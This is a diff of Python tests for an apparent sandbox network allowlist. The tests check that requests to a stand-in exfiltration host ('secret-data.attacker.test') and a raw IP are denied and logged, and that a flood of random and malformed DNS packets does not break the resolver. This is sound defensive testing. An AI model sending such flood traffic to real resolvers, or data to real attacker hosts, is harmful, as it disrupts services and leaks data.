@@ -89,7 +89,7 @@ def get(daemon, repository):
 
 
 def test_what_is_allowed_is_reached_and_the_rest_is_recorded(get, port):
-    lines, network, _ = get(f"http://files.test:{port}/", f"http://secret-data.attacker.test:{port}/", f"http://{SERVER}:{port}/",
+    lines, network, _ = get(f"http://files.test:{port}/", f"http://secret-data.attacker.test:{port}/", f"http://10.1.2.3:{port}/",
                             network={"allow": ["Files.test."]})
     assert lines == [f"from files.test:{port}", "gaierror", "ConnectionResetError"]
     assert network["rules"] == ["files.test"]
@@ -97,7 +97,7 @@ def test_what_is_allowed_is_reached_and_the_rest_is_recorded(get, port):
     assert network["counters"]["bytes_up"] > 0 < network["counters"]["bytes_down"]
     denied = {(d["kind"], d["target"], d["port"], d["reason"]) for d in network["denied"]}
     assert ("question", "secret-data.attacker.test", None, "not_allowed") in denied
-    assert ("connection", SERVER, port, "not_allowed") in denied
+    assert ("connection", "10.1.2.3", port, "not_allowed") in denied
     assert "secret-data.attacker.test" not in Names.asked and "files.test" in Names.asked
 
 
@@ -136,18 +136,20 @@ def test_many_names_and_broken_questions_harm_nobody(daemon, repository, port):
     script = f"""python3 - <<'E'
 import os, socket, urllib.request
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.18.0.1', 53))
-for i in range(2000):
+for i in range(300):
     try: s.send(os.urandom(i % 600))
     except OSError: pass
     try: s.send(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\xc0\\x0c' * (i % 20) + b'\\0\\1\\0\\1')
     except OSError: pass
-for i in range(300):
+for i in range(150):
     try: socket.gethostbyname(f'n{{i}}.other.test')
     except OSError: pass
-t = socket.create_connection(('198.18.0.1', 53)); t.sendall(b'\\0\\5hello'); print(t.recv(9))
+t = socket.create_connection(('198.18.0.1', 53)); t.sendall(b'\\0\\5hello')
+try: print(t.recv(9))
+except OSError as e: print(type(e).__name__)
 print(socket.gethostbyname('files.test')[:7], urllib.request.urlopen('http://files.test:{port}/').read().decode())
 E"""
     record = daemon.result(daemon.submit(repository.request(test_command=script, network=["files.test"])))
     assert record["stdout"].splitlines()[-1] == f"198.18. from files.test:{port}", record
     assert len(record["usage"]["network"]["denied"]) <= 128
-    assert record["usage"]["network"]["counters"]["denied"] >= 300
+    assert record["usage"]["network"]["counters"]["denied"] >= 150
